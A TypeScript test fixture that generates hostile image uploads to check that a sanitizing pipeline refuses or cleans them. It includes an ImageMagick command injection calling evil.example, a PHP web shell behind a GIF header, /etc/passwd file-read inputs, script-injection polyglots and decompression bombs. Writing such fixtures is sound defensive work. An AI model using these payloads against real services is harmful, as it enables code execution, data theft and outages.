import { createCipheriv } from "node:crypto";
import { crc32, deflateSync, gzipSync } from "node:zlib";
import sharp from "sharp";
import type { Sharp } from "sharp";

/** A hostile file. `kept`: harmless once decoded and encoded again; otherwise it has to be refused. */
export interface HostileFile {
  name: string;
  contentType: "image/png" | "image/jpeg" | "image/gif" | "image/webp";
  bytes: Buffer;
  kept?: true;
}

/** Text that must appear in nothing we store or serve. */
export const canary = "CANARY-52.520008N-13.404954E";
const html = `<html><script>alert("${canary}")</script></html>`;
const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64"><script>alert("${canary}")</script><image href="file:///etc/passwd"/></svg>`;

/** Returns the same noise every time. */
const noise = (length: number): Buffer =>
  createCipheriv("aes-128-ctr", Buffer.alloc(16, 7), Buffer.alloc(16)).update(Buffer.alloc(length));

const pngMark = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const out = Buffer.alloc(8 + body.length);
  out.writeUInt32BE(data.length, 0);
  body.copy(out, 4);
  out.writeUInt32BE(crc32(body), 4 + body.length);
  return out;
}

function pngHeader(width: number, height: number, depth = 8, colour = 2): Buffer {
  const data = Buffer.alloc(13);
  data.writeUInt32BE(width, 0);
  data.writeUInt32BE(height, 4);
  data.set([depth, colour, 0, 0, 0], 8);
  return pngChunk("IHDR", data);
}

const pngEnd = pngChunk("IEND", Buffer.alloc(0));

/** Builds a PNG of one color, one bit a pixel: any number of pixels in few bytes. */
const flatPng = (width: number, height: number, ...before: Buffer[]): Buffer =>
  Buffer.concat([
    pngMark,
    pngHeader(width, height, 1, 0),
    ...before,
    pngChunk("IDAT", deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * height), { level: 9 })),
    pngEnd,
  ]);

/** Inserts a chunk right behind the header of a PNG. */
const withChunk = (png: Buffer, chunk: Buffer): Buffer => Buffer.concat([png.subarray(0, 33), chunk, png.subarray(33)]);

/** Builds an animation of one-pixel frames on a canvas. */
function gif(width: number, height: number, frames: number, ...more: Buffer[]): Buffer {
  const head = Buffer.concat([Buffer.from("GIF89a"), Buffer.alloc(7), Buffer.from([0, 0, 0, 255, 255, 255])]);
  head.writeUInt16LE(width, 6);
  head.writeUInt16LE(height, 8);
  head[10] = 0x80;
  const frame = Buffer.from([0x21, 0xf9, 4, 0, 1, 0, 0, 0, 0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0]);
  return Buffer.concat([
    head,
    ...more,
    Buffer.concat(Array.from({ length: frames }, () => frame)),
    Buffer.from([0x3b]),
  ]);
}

/** Inserts a segment right behind a JPEG's first marker. */
function withSegment(jpeg: Buffer, marker: number, data: Buffer): Buffer {
  const head = Buffer.from([0xff, marker, 0, 0]);
  head.writeUInt16BE(data.length + 2, 2);
  return Buffer.concat([jpeg.subarray(0, 2), head, data, jpeg.subarray(2)]);
}

/** Appends a chunk to a WebP and updates its length. */
function withWebpChunk(webp: Buffer, type: string, data: Buffer): Buffer {
  const padded = data.length % 2 === 0 ? data : Buffer.concat([data, Buffer.alloc(1)]);
  const head = Buffer.concat([Buffer.from(type, "latin1"), Buffer.alloc(4)]);
  head.writeUInt32LE(data.length, 4);
  const out = Buffer.concat([webp, head, padded]);
  out.writeUInt32LE(out.length - 8, 4);
  return out;
}

/** Returns the same bytes with one changed. */
function flipped(bytes: Buffer, at: number): Buffer {
  const out = Buffer.from(bytes);
  out[at] = (out[at] ?? 0) ^ 255;
  return out;
}

/** Overwrites the size in a JPEG's frame header. */
function withJpegSize(jpeg: Buffer, width: number, height: number): Buffer {
  const out = Buffer.from(jpeg);
  for (let at = 2; at < out.length; at += 2 + out.readUInt16BE(at + 2)) {
    const marker = out[at + 1] ?? 0;
    if (marker !== 0xc0 && marker !== 0xc2) continue;
    out.writeUInt16BE(height, at + 5);
    out.writeUInt16BE(width, at + 7);
    break;
  }
  return out;
}

/** Builds a progressive JPEG whose first scan repeats. */
function manyScans(jpeg: Buffer, times: number): Buffer {
  const first = jpeg.indexOf(Buffer.from([0xff, 0xda]));
  let end = first + 2;
  while (!(jpeg[end] === 0xff && jpeg[end + 1] !== 0 && (jpeg[end + 1] ?? 0) < 0xd0)) end += 1;
  const scan = jpeg.subarray(first, end);
  return Buffer.concat([jpeg.subarray(0, end), ...Array.from({ length: times }, () => scan), jpeg.subarray(end)]);
}

/** Returns about a hundred files: wrong content, polyglots, bombs, damage, and metadata that must not survive. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const pixels = { width: 64, height: 48, channels: 3 } as const;
  const base = (): Sharp => sharp(noise(64 * 48 * 3), { raw: pixels });
  const [png, jpeg, webp, gifFile] = await Promise.all([
    base().png().toBuffer(),
    base().jpeg().toBuffer(),
    base().webp().toBuffer(),
    base().gif().toBuffer(),
  ]);
  const progressive = await base().jpeg({ progressive: true }).toBuffer();
  const frames = (count: number, width: number, height: number) =>
    sharp(noise(width * height * 3 * count), {
      raw: { width, height: height * count, channels: 3, pageHeight: height },
    });
  const real = { "image/png": png, "image/jpeg": jpeg, "image/webp": webp, "image/gif": gifFile } as const;
  const types = Object.keys(real) as HostileFile["contentType"][];
  const bomb = deflateSync(Buffer.alloc(268_435_456), { level: 6 });
  const files: HostileFile[] = [];
  const add = (name: string, contentType: HostileFile["contentType"], bytes: Buffer, kept?: "kept"): void => {
    files.push({ name, contentType, bytes, ...(kept === undefined ? {} : { kept: true }) });
  };

  // What it is not.
  for (const type of types) {
    add(`svg with a script as ${type}`, type, Buffer.from(svg));
    add(`html as ${type}`, type, Buffer.from(html));
    add(`only the mark of ${type}`, type, real[type].subarray(0, 12));
    // Noise is a lawful picture to WebP's arithmetic coder.
    add(
      `noise behind the mark of ${type}`,
      type,
      Buffer.concat([real[type].subarray(0, 40), noise(5_000)]),
      type === "image/webp" ? "kept" : undefined,
    );
    add(`half of ${type}`, type, real[type].subarray(0, real[type].length / 2));
    for (const other of types) if (other !== type) add(`${other} as ${type}`, type, real[other]);
  }
  add("compressed svg", "image/png", gzipSync(svg));
  add(
    "svg behind a byte order mark and a comment",
    "image/png",
    Buffer.from(`\uFEFF<?xml version="1.0"?><!-- x -->${svg}`),
  );
  add("tiff", "image/jpeg", await base().tiff().toBuffer());
  add("avif", "image/webp", await base().avif().toBuffer());
  add("bmp", "image/png", Buffer.concat([Buffer.from("BM"), noise(500)]));
  add("heic brand", "image/jpeg", Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from("ftypheic"), noise(500)]));
  add("film", "image/gif", Buffer.concat([Buffer.from([0, 0, 0, 24]), Buffer.from("ftypmp42"), noise(500)]));
  add("photoshop", "image/png", Buffer.concat([Buffer.from("8BPS\0\u0001"), noise(500)]));
  add(
    "imagemagick drawing",
    "image/png",
    Buffer.from(`push graphic-context\nfill 'url(https://evil.example/x.png"|touch "/tmp/owned)'\npop graphic-context`),
  );
  add("imagemagick caption", "image/png", Buffer.from("caption:@/etc/passwd"));
  add(
    "postscript",
    "image/jpeg",
    Buffer.from("%!PS\nuserdict /setpagedevice undef\nlegal { null restore } stopped { pop } if"),
  );
  add("pdf", "image/jpeg", Buffer.from("%PDF-1.7\n1 0 obj\nendobj\n%%EOF"));
  add("playlist", "image/webp", Buffer.from("#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n"));
  add("archive", "image/png", Buffer.concat([Buffer.from("PK\u0003\u0004"), noise(500)]));
  add("program", "image/png", Buffer.concat([Buffer.from([0x7f]), Buffer.from("ELF"), noise(500)]));
  add("php", "image/gif", Buffer.from("GIF89a<?php system($_GET['c']); ?>"));
  add("script that begins like a gif", "image/gif", Buffer.from(`GIF89a/*${" ".repeat(20)}*/=1;alert("${canary}")//`));
  add("openexr", "image/png", Buffer.concat([Buffer.from([0x76, 0x2f, 0x31, 0x01]), noise(500)]));
  add("libvips' own", "image/png", Buffer.concat([Buffer.from([0x08, 0xf2, 0xa6, 0xb6]), noise(500)]));
  add("webp mark on another riff", "image/webp", Buffer.concat([Buffer.from("RIFF\0\u0001\0\0WAVEfmt "), noise(300)]));
  add("one byte", "image/png", Buffer.from([0x89]));
  add("nothing but zeros", "image/png", Buffer.alloc(1_000));

  // Bombs.
  add(
    "png header of 65535 by 65535",
    "image/png",
    Buffer.concat([pngMark, pngHeader(65_535, 65_535), pngChunk("IDAT", deflateSync(Buffer.alloc(100))), pngEnd]),
  );
  add(
    "png header of two thousand million",
    "image/png",
    Buffer.concat([
      pngMark,
      pngHeader(2_147_483_647, 2_147_483_647),
      pngChunk("IDAT", deflateSync(Buffer.alloc(100))),
      pngEnd,
    ]),
  );
  add("png of 400 million real pixels", "image/png", flatPng(20_000, 20_000));
  add("png of one pixel row too many", "image/png", flatPng(4_096, 4_097));
  add("png of as many pixels as may be", "image/png", flatPng(16_384, 1_024), "kept");
  add("jpeg header of 65500 by 65500", "image/jpeg", withJpegSize(jpeg, 65_500, 65_500));
  add("jpeg that says 2500 by 2500 and has 64 by 48", "image/jpeg", withJpegSize(jpeg, 2_500, 2_500), "kept");
  add("jpeg of 3000 scans", "image/jpeg", manyScans(progressive, 3_000));
  add("gif canvas of 65535 by 65535", "image/gif", gif(65_535, 65_535, 1), "kept");
  add("gif of 201 pictures", "image/gif", gif(8, 8, 201));
  add("gif of 10,000 pictures", "image/gif", gif(64, 64, 10_000));
  add("gif of 600,000 pictures", "image/gif", gif(4_096, 4_096, 600_000));
  add("gif of 200 large pictures", "image/gif", gif(2_000, 2_000, 200));
  add("gif of 65535 by 1, as long as may be", "image/gif", gif(65_535, 1, 200), "kept");
  add(
    "webp of 10,000 pictures",
    "image/webp",
    await sharp(Buffer.concat(Array.from({ length: 10_000 }, (_, i) => Buffer.alloc(12, i % 251))), {
      raw: { width: 2, height: 20_000, channels: 3, pageHeight: 2 },
    })
      .webp({ effort: 0 })
      .toBuffer(),
  );
  add("webp of 201 pictures", "image/webp", await frames(201, 8, 8).webp({ effort: 0 }).toBuffer());
  add(
    "text of 256 MB in a png",
    "image/png",
    withChunk(png, pngChunk("zTXt", Buffer.concat([Buffer.from("k\0\0"), bomb]))),
    "kept",
  );
  add(
    "international text of 256 MB in a png",
    "image/png",
    withChunk(png, pngChunk("iTXt", Buffer.concat([Buffer.from("k\0\u0001\0\0\0"), bomb]))),
    "kept",
  );
  add(
    "colour profile of 256 MB in a png",
    "image/png",
    withChunk(png, pngChunk("iCCP", Buffer.concat([Buffer.from("k\0\0"), bomb]))),
    "kept",
  );
  add(
    "260,000 small texts in a png",
    "image/png",
    withChunk(
      png,
      Buffer.concat(Array.from({ length: 260_000 }, (_, i) => pngChunk("tEXt", Buffer.from(`k${i % 10}\0v`)))),
    ),
    "kept",
  );
  add(
    "70 segments of metadata in a jpeg",
    "image/jpeg",
    Array.from({ length: 70 }).reduce<Buffer>((file) => withSegment(file, 0xe1, noise(60_000)), jpeg),
    "kept",
  );

  // Damage.
  add("png with a wrong sum", "image/png", flipped(png, 60));
  add("png without its end", "image/png", png.subarray(0, -40));
  add("jpeg cut near its end", "image/jpeg", jpeg.subarray(0, jpeg.length - 300));
  add(
    "gif with a picture outside of its canvas",
    "image/gif",
    Buffer.concat([
      gif(2, 2, 0).subarray(0, -1),
      Buffer.from([0x2c, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0, 2, 2, 0x44, 1, 0, 0x3b]),
    ]),
  );
  add("png of no width", "image/png", Buffer.concat([pngMark, pngHeader(0, 10), pngEnd]));

  // Real pictures with something beside the picture.
  add(
    "png with html in a text",
    "image/png",
    withChunk(png, pngChunk("tEXt", Buffer.from(`Comment\0${html}`))),
    "kept",
  );
  add("png with html behind it", "image/png", Buffer.concat([png, Buffer.from(html)]), "kept");
  add(
    "png with a script in a chunk of its own",
    "image/png",
    withChunk(png, pngChunk("scRp", Buffer.from(html))),
    "kept",
  );
  add(
    "png with an archive behind it",
    "image/png",
    Buffer.concat([png, Buffer.from(`PK\u0003\u0004${canary}`)]),
    "kept",
  );
  add(
    "gif with a script in its comment",
    "image/gif",
    gif(8, 8, 2, Buffer.concat([Buffer.from([0x21, 0xfe, html.length]), Buffer.from(html), Buffer.from([0])])),
    "kept",
  );
  add(
    "gif with a script behind it",
    "image/gif",
    Buffer.concat([gifFile, Buffer.from(`*/=alert("${canary}")//`)]),
    "kept",
  );
  add("jpeg with html in its comment", "image/jpeg", withSegment(jpeg, 0xfe, Buffer.from(html)), "kept");
  add(
    "jpeg with php behind it",
    "image/jpeg",
    Buffer.concat([jpeg, Buffer.from(`<?php echo "${canary}"; ?>`)]),
    "kept",
  );
  add(
    "jpeg with a place in its exif",
    "image/jpeg",
    await base()
      .withExif({
        IFD0: { Copyright: canary, ImageDescription: html },
        IFD3: { GPSLatitudeRef: "N", GPSLatitude: "52/1 31/1 12/1", GPSAreaInformation: canary },
      })
      .jpeg()
      .toBuffer(),
    "kept",
  );
  add(
    "webp with a place in its exif",
    "image/webp",
    await base()
      .withExif({ IFD0: { Copyright: canary } })
      .webp()
      .toBuffer(),
    "kept",
  );
  add(
    "png with a place in its exif",
    "image/png",
    await base()
      .withExif({ IFD0: { Copyright: canary } })
      .png()
      .toBuffer(),
    "kept",
  );
  add(
    "jpeg with xmp",
    "image/jpeg",
    await base().withXmp(`<x:xmpmeta xmlns:x="adobe:ns:meta/">${canary}</x:xmpmeta>`).jpeg().toBuffer(),
    "kept",
  );
  add(
    "jpeg with a colour profile that speaks",
    "image/jpeg",
    withSegment(jpeg, 0xe2, Buffer.concat([Buffer.from("ICC_PROFILE\0\u0001\u0001"), Buffer.from(html.repeat(20))])),
    "kept",
  );
  add(
    "png with a colour profile that speaks",
    "image/png",
    withChunk(png, pngChunk("iCCP", Buffer.concat([Buffer.from("k\0\0"), deflateSync(Buffer.from(html.repeat(20)))]))),
    "kept",
  );
  add(
    "jpeg of 255 parts of one colour profile",
    "image/jpeg",
    Array.from({ length: 255 }).reduce<Buffer>(
      (file, _none, index) =>
        withSegment(
          file,
          0xe2,
          Buffer.concat([Buffer.from("ICC_PROFILE\0"), Buffer.from([255 - index, 255]), noise(8_000)]),
        ),
      jpeg,
    ),
    "kept",
  );
  add(
    "jpeg with iptc",
    "image/jpeg",
    withSegment(
      jpeg,
      0xed,
      Buffer.concat([Buffer.from("Photoshop 3.0\u00008BIM\u0004\u0004\0\0\0\0"), Buffer.from(canary)]),
    ),
    "kept",
  );
  add(
    "gif with a program in an application block",
    "image/gif",
    gif(
      8,
      8,
      2,
      Buffer.concat([
        Buffer.from([0x21, 0xff, 11]),
        Buffer.from("XMP DataXMP"),
        Buffer.from([html.length]),
        Buffer.from(html),
        Buffer.from([0]),
      ]),
    ),
    "kept",
  );
  add("webp with a chunk of its own", "image/webp", withWebpChunk(webp, "EVIL", Buffer.from(html)), "kept");
  add("webp with html behind it", "image/webp", Buffer.concat([webp, Buffer.from(html)]), "kept");
  add(
    "gif that is an archive too",
    "image/gif",
    Buffer.concat([gifFile, Buffer.from("PK\u0003\u0004"), noise(300), Buffer.from(`PK\u0005\u0006${canary}`)]),
    "kept",
  );
  add("jpeg with another picture behind it", "image/jpeg", Buffer.concat([jpeg, jpeg, Buffer.from(canary)]), "kept");
  add("jpeg in inks", "image/jpeg", await base().toColourspace("cmyk").jpeg().toBuffer(), "kept");
  add("png of 16 bits", "image/png", await base().toColourspace("rgb16").png().toBuffer(), "kept");
  add(
    "animated png",
    "image/png",
    withChunk(png, pngChunk("acTL", Buffer.from([0, 0, 0x27, 0x10, 0, 0, 0, 0]))),
    "kept",
  );
  add("animation", "image/gif", await frames(20, 400, 300).gif({ effort: 1 }).toBuffer(), "kept");
  return files;
}
